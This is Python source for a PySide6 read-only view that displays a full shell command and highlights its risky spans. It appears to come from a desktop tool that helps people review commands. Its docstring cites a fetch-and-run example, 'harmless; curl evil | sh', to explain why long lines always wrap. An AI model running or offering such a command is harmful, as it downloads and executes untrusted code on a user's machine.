"""The read-only, monospace view of one whole command (already revealed), never cut.

QPlainTextEdit, not QLabel: a command may be a megabyte long, and it lays out lazily, scrolls,
never interprets markup and lets a person copy. It always wraps (scrolled sideways, the tail of
``harmless; curl evil | sh`` could sit off screen), anywhere when a token is very long: wrapping
at word boundaries is quadratic on one long token (65 s for 1 MB), anywhere linear (0.3 s).
Risky spans are drawn as extra selections, so the document holds only the command's characters.
"""

from __future__ import annotations

import re

from PySide6.QtCore import Qt, QTimer
from PySide6.QtGui import (
    QColor,
    QFontDatabase,
    QMouseEvent,
    QResizeEvent,
    QShowEvent,
    QTextCharFormat,
    QTextCursor,
    QTextOption,
)
from PySide6.QtWidgets import QFrame, QPlainTextEdit, QTextEdit, QWidget

from desktop.risk import RiskLevel

Mark = tuple[int, int, RiskLevel]  # a span of the shown text (Python offsets) and its level

# Background and text colour per level: fixed pairs that read in light and dark themes alike.
MARK_COLOURS = {
    RiskLevel.HIGH: ("#f9c9c4", "#5c0b05"),
    RiskLevel.MEDIUM: ("#fde6a8", "#4a3000"),
}

_LONG_TOKEN = re.compile(r"\S{1000}")
_WORD_WRAP_LIMIT = 100_000  # characters; above this the cheaper anywhere-wrap is used anyway
_MEASURE_LIMIT = 20_000  # characters; longer commands simply get the maximum height
MAX_LINES = 10  # visible lines before the view scrolls


class CommandView(QPlainTextEdit):
    def __init__(self, parent: QWidget | None = None) -> None:
        super().__init__(parent)
        self.setObjectName("commandView")
        self.setReadOnly(True)
        self.setUndoRedoEnabled(False)
        self.setTextInteractionFlags(Qt.TextInteractionFlag.TextSelectableByMouse)
        # Click to focus (for Ctrl+C) but not Tab: keyboard users stay on the rows.
        self.setFocusPolicy(Qt.FocusPolicy.ClickFocus)
        self.setFrameShape(QFrame.Shape.StyledPanel)
        self.setFont(QFontDatabase.systemFont(QFontDatabase.SystemFont.FixedFont))
        self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
        self.setLineWrapMode(QPlainTextEdit.LineWrapMode.WidgetWidth)
        self.setTabStopDistance(4 * self.fontMetrics().horizontalAdvance(" "))
        self._shown: str | None = None
        self._marks: tuple[Mark, ...] = ()
        self._pending = False  # a long command waits for the first show

    def show_command(self, text: str, marks: tuple[Mark, ...] = ()) -> None:
        """Display ``text`` with ``marks``; a long one set while hidden waits for the first show.

        A hidden view changes width a few times, and each re-wraps (0.2-0.4 s per MB).
        """
        if text == self._shown:
            if marks != self._marks:
                self._marks = marks
                self._apply_marks()
            return
        self._shown = text
        self._marks = marks
        if len(text) <= _MEASURE_LIMIT or self.isVisible():
            self._apply()
        elif not self._pending:
            self._pending = True
            self.setPlaceholderText(f"Loading a {len(text):,}-character command…")

    def showEvent(self, event: QShowEvent) -> None:
        super().showEvent(event)
        if self._pending:
            QTimer.singleShot(0, self, self._apply)

    def _apply(self) -> None:
        if self._shown is None or not (self._pending or self.toPlainText() != self._shown):
            return
        text, self._pending = self._shown, False
        long_token = len(text) > _WORD_WRAP_LIMIT or _LONG_TOKEN.search(text) is not None
        self.setWordWrapMode(
            QTextOption.WrapMode.WrapAnywhere
            if long_token
            else QTextOption.WrapMode.WrapAtWordBoundaryOrAnywhere
        )
        # Final height and scroll bar first: either appearing later would narrow or resize the
        # viewport and re-wrap the whole text once more.
        self.setVerticalScrollBarPolicy(
            Qt.ScrollBarPolicy.ScrollBarAlwaysOn
            if len(text) > _MEASURE_LIMIT
            else Qt.ScrollBarPolicy.ScrollBarAsNeeded
        )
        self._fit_height(len(text))
        self.setPlainText(text)
        self._fit_height(len(text))
        self._apply_marks()

    def _apply_marks(self) -> None:
        text = self._shown or ""
        if self._pending or self.toPlainText() != text:
            return
        wide = bool(text) and max(text) > "\uffff"  # positions count UTF-16 units then
        selections = []
        for start, end, level in self._marks:
            colours = MARK_COLOURS.get(level)
            if colours is None or not 0 <= start < end <= len(text):
                continue
            if wide:
                start = len(text[:start].encode("utf-16-le")) // 2
                end = len(text[:end].encode("utf-16-le")) // 2
            selection = QTextEdit.ExtraSelection()
            cursor = QTextCursor(self.document())
            cursor.setPosition(start)
            cursor.setPosition(end, QTextCursor.MoveMode.KeepAnchor)
            selection.cursor = cursor
            char_format = QTextCharFormat()
            char_format.setBackground(QColor(colours[0]))
            char_format.setForeground(QColor(colours[1]))
            selection.format = char_format
            selections.append(selection)
        self.setExtraSelections(selections)

    def scroll_page(self, pages: int) -> None:
        bar = self.verticalScrollBar()
        bar.setValue(bar.value() + pages * bar.pageStep())

    def mousePressEvent(self, event: QMouseEvent) -> None:
        super().mousePressEvent(event)
        event.ignore()  # on to the list's viewport (the dialog's filter): it selects this card

    def resizeEvent(self, event: QResizeEvent) -> None:
        super().resizeEvent(event)
        if event.oldSize().width() != event.size().width():
            self._fit_height(len(self._shown or ""))

    def _fit_height(self, length: int) -> None:
        line = self.fontMetrics().lineSpacing()
        chrome = 2 * self.frameWidth() + 2 * int(self.document().documentMargin()) + 2
        content: float
        if length > _MEASURE_LIMIT:
            content = MAX_LINES * line
        else:
            layout = self.document().documentLayout()
            block = self.document().firstBlock()
            content = 0.0
            while block.isValid() and content < MAX_LINES * line:
                content += layout.blockBoundingRect(block).height()
                block = block.next()
            content = min(max(content, line), MAX_LINES * line)
        height = int(content) + chrome
        if height != self.height() or self.minimumHeight() != height:
            self.setFixedHeight(height)
